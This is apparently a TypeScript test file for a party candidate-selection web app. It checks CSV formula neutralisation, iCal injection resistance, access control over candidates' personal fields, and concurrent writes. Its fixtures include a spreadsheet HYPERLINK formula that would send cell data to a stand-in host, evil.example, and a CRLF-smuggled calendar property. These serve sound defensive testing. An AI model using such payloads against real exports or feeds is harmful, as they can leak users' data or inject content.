// Hostile input (4/4): files, personal fields out of reach, and writes at the same time. Setup and helpers: selections-hostile.fixtures.ts.
import type { Response } from 'supertest';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { type TSelection } from '../../contracts/index.ts';
import {
  t,
  blythId,
  officer,
  secondOfficer,
  otherOfficer,
  expiredOfficer,
  member,
  staff,
  stamp,
  call,
  create,
  addCandidate,
  type Person,
} from './selections-hostile.fixtures.ts';

describe('what leaves the server as files', () => {
  it('neutralises formulas in wards and imposition sources in the CSV', async () => {
    const wards = [
      '=1+1',
      '+SUM(A1:A9)',
      '-2+3',
      '@cmd',
      '\uFF1D1+1',
      'Ward;=1+1',
      'Ward, =HYPERLINK("x")',
      'Quote "ward", here',
    ];
    const made = new Map<number, string>();
    for (const ward of wards) made.set((await create({ electionType: 'council', wardName: ward })).id, ward);
    const source = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    const s = await create();
    await call('patch', `/api/selections/${s.id}`, officer, {
      version: 1,
      imposed: true,
      imposedSource: source,
    }).expect(200);
    for (const who of [member, undefined, officer]) {
      const res = await call('get', `/api/selections.csv?clp=${blythId}`, who).expect(200);
      const rows = parse(res.text, { columns: true }) as Record<string, string>[];
      for (const [id, ward] of made) {
        const row = rows.find((r) => r.id === String(id))!;
        expect(row.area, ward).toBe(ward === 'Quote "ward", here' ? ward : `'${ward}`);
      }
      expect(rows.find((r) => r.id === String(s.id))!.imposed_source).toBe(`'${source}`);
    }
  });

  it('keeps semicolons, commas and line breaks in names from breaking the calendar', async () => {
    const ICAL = (await import('ical.js')).default;
    const ward = 'Semi;colon, comma\\slash';
    const s = await create({
      electionType: 'council',
      wardName: ward,
      stages: [{ stage: 'applications_open', plannedOn: '2027-03-01', actualOn: null }],
    });
    // Older or imported rows may hold what the API refuses: a ward that tries to add a property of its own.
    const injected = await create({
      stages: [{ stage: 'longlist', plannedOn: '2027-04-01', actualOn: null }],
    });
    await t.db.prisma.selection.update({
      where: { id: injected.id },
      data: { electionType: 'council', wardName: 'Evil\r\nATTENDEE:mailto:x@evil.example\r\nEND:VEVENT\nX' },
    });
    for (const scope of [`clp=${blythId}`, 'region=E12000001']) {
      const res = await call('get', `/api/selections/calendar.ics?${scope}`).expect(200);
      const unfolded = res.text.replace(/\r\n[ \t]/g, '');
      expect(unfolded).not.toMatch(/^ATTENDEE/m);
      expect(unfolded.match(/^BEGIN:VEVENT/gm)!.length).toBe(unfolded.match(/^END:VEVENT/gm)!.length);
      const events = new ICAL.Component(ICAL.parse(res.text))
        .getAllSubcomponents('vevent')
        .map((v) => new ICAL.Event(v));
      const ours = events.filter((e) => e.uid.startsWith(`selection-${s.id}-`));
      expect(ours.map((e) => e.summary)).toEqual([`${ward}: Applications open (Council) (planned)`]);
      const theirs = events.filter((e) => e.uid.startsWith(`selection-${injected.id}-`));
      expect(theirs).toHaveLength(1);
      expect(theirs[0]!.summary).toContain('ATTENDEE:mailto:x@evil.example');
    }
  });
});

describe('personal fields out of reach', () => {
  it('gives members, staff, other officers, lapsed officers and the public no personal field anywhere', async () => {
    const secrets = {
      name: `Hidden Person ${stamp}`,
      occupation: `Occupation-secret-${stamp}`,
      unionName: `Union-secret-${stamp}`,
      buddyMp: `Buddy-secret-${stamp}`,
    };
    let s = await create({ stage: 'shortlist' });
    s = await addCandidate(s, {
      stage: 'shortlisted',
      livesLocally: true,
      yearsLocal: 17,
      localConnection: `Connection-secret-${stamp}`,
      candidate: { ...secrets, workingClass: true, gender: 'woman' },
    });
    s = await addCandidate(s, {
      stage: 'shortlisted',
      candidate: { name: `Named Person ${stamp}`, occupation: `Consented-name-only-${stamp}` },
    });
    const named = s.candidacies[1]!;
    await call('post', `/api/candidacies/${named.id}/consents`, officer, {
      fields: ['name'],
      note: 'Signed form',
    }).expect(201);
    const hidden = s.candidacies[0]!;
    const never = [
      ...Object.values(secrets),
      `Connection-secret-${stamp}`,
      `Consented-name-only-${stamp}`,
      'Signed form',
    ];
    for (const who of [member, staff, otherOfficer, expiredOfficer, undefined]) {
      const denied = who ? 403 : 401;
      const answers: [Response, number][] = [
        [await call('get', `/api/selections/${s.id}`, who), 200],
        [await call('get', `/api/selections?clp=${blythId}`, who), 200],
        [await call('get', `/api/selections.csv?clp=${blythId}`, who), 200],
        [await call('get', `/api/selections/calendar.ics?clp=${blythId}`, who), 200],
        [await call('get', `/api/selections/${s.id}/history`, who), denied],
        [await call('patch', `/api/selections/${s.id}`, who, { version: 1, stage: 'hustings' }), denied],
        [await call('put', `/api/selections/${s.id}/ballot`, who, { version: 1, rounds: [] }), denied],
        [await call('post', `/api/selections/${s.id}/candidacies`, who, { candidateId: 1 }), denied],
        [
          await call('patch', `/api/candidacies/${hidden.id}`, who, { version: 9, stage: 'selected' }),
          denied,
        ],
        [
          await call('patch', `/api/candidacies/${hidden.id}/candidate`, who, { version: 9, name: 'X' }),
          denied,
        ],
        [
          await call('post', `/api/candidacies/${hidden.id}/consents`, who, {
            fields: ['name'],
            note: 'Forged',
          }),
          denied,
        ],
        [
          await call('post', `/api/candidates/${hidden.personal!.candidate.id}/export`, who, {
            reason: 'Curious',
          }),
          denied,
        ],
        [await call('post', `/api/selections/${s.id}/candidacies`, who, { candidate: { name: 5 } }), 400],
        [await call('get', `/api/selections?clp=${blythId}&stage=x`, who), 400],
      ];
      for (const [i, [res, status]] of answers.entries()) {
        const where = `answer ${i}: ${res.text.slice(0, 200)}`;
        expect(res.status, where).toBe(status);
        for (const secret of never) expect(res.text, where).not.toContain(secret);
      }
      const page = answers[0]![0].body as TSelection;
      expect(page.canEdit).toBe(false);
      expect(page.candidacies.map((c) => [c.label, c.personal, c.published])).toEqual([
        ['Candidate 1', null, {}],
        [`Named Person ${stamp}`, null, { name: `Named Person ${stamp}` }],
      ]);
    }
    const row = await t.db.prisma.candidacy.findUniqueOrThrow({ where: { id: hidden.id } });
    expect(row).toMatchObject({ stage: 'shortlisted', version: 1 });
    expect(await t.db.prisma.candidateConsent.count({ where: { note: 'Forged' } })).toBe(0);
  });
});

describe('at the same time', () => {
  it('lets two officers add applicants while a third request moves the stage, losing nothing', async () => {
    const s = await create();
    const adds = (who: Person, tag: string) =>
      Array.from({ length: 4 }, (_, i) =>
        call('post', `/api/selections/${s.id}/candidacies`, who, { candidate: { name: `${tag} ${i}` } }),
      );
    const results = await Promise.all([
      ...adds(officer, 'First'),
      ...adds(secondOfficer, 'Second'),
      call('patch', `/api/selections/${s.id}`, secondOfficer, { version: 1, stage: 'applications_open' }),
    ]);
    expect(results.map((r) => r.status)).toEqual([201, 201, 201, 201, 201, 201, 201, 201, 200]);
    const after = (await call('get', `/api/selections/${s.id}`, officer).expect(200)).body as TSelection;
    expect(after).toMatchObject({ stage: 'applications_open', version: 2 });
    expect(after.candidacies).toHaveLength(8);
  });

  it('adds the same candidate to a selection once when asked twice at once', async () => {
    const id = (await addCandidate(await create())).candidacies[0]!.personal!.candidate.id;
    const s = await create();
    const both = await Promise.all(
      [officer, secondOfficer].map((who) =>
        call('post', `/api/selections/${s.id}/candidacies`, who, { candidateId: id }),
      ),
    );
    expect(both.map((r) => r.status).sort()).toEqual([201, 409]);
    expect(await t.db.prisma.candidacy.count({ where: { selectionId: s.id } })).toBe(1);
  });

  it('selects one candidate when two are selected at once', async () => {
    const s = await addCandidate(
      await addCandidate(await create({ stage: 'selected' }), { stage: 'shortlisted' }),
      {
        stage: 'shortlisted',
      },
    );
    const [a, b] = s.candidacies;
    const both = await Promise.all([
      call('patch', `/api/candidacies/${a!.id}`, officer, { version: 1, stage: 'selected' }),
      call('patch', `/api/candidacies/${b!.id}`, secondOfficer, { version: 1, stage: 'selected' }),
    ]);
    expect(both.map((r) => r.status).sort()).toEqual([200, 422]);
    const added = await Promise.all(
      [officer, secondOfficer].map((who) =>
        call('post', `/api/selections/${(s as TSelection).id}/candidacies`, who, {
          stage: 'selected',
          candidate: { name: 'Late Selected' },
        }),
      ),
    );
    expect(added.map((r) => r.status)).toEqual([422, 422]);
    expect(await t.db.prisma.candidacy.count({ where: { selectionId: s.id, stage: 'selected' } })).toBe(1);
  });

  it('selects one candidate when two applicants are added as selected at once', async () => {
    const s = await create({ stage: 'selected' });
    const both = await Promise.all(
      [officer, secondOfficer].map((who, i) =>
        call('post', `/api/selections/${s.id}/candidacies`, who, {
          stage: 'selected',
          candidate: { name: `Winner ${i}` },
        }),
      ),
    );
    expect(both.map((r) => r.status).sort()).toEqual([201, 422]);
    expect(await t.db.prisma.candidacy.count({ where: { selectionId: s.id, stage: 'selected' } })).toBe(1);
  });
});
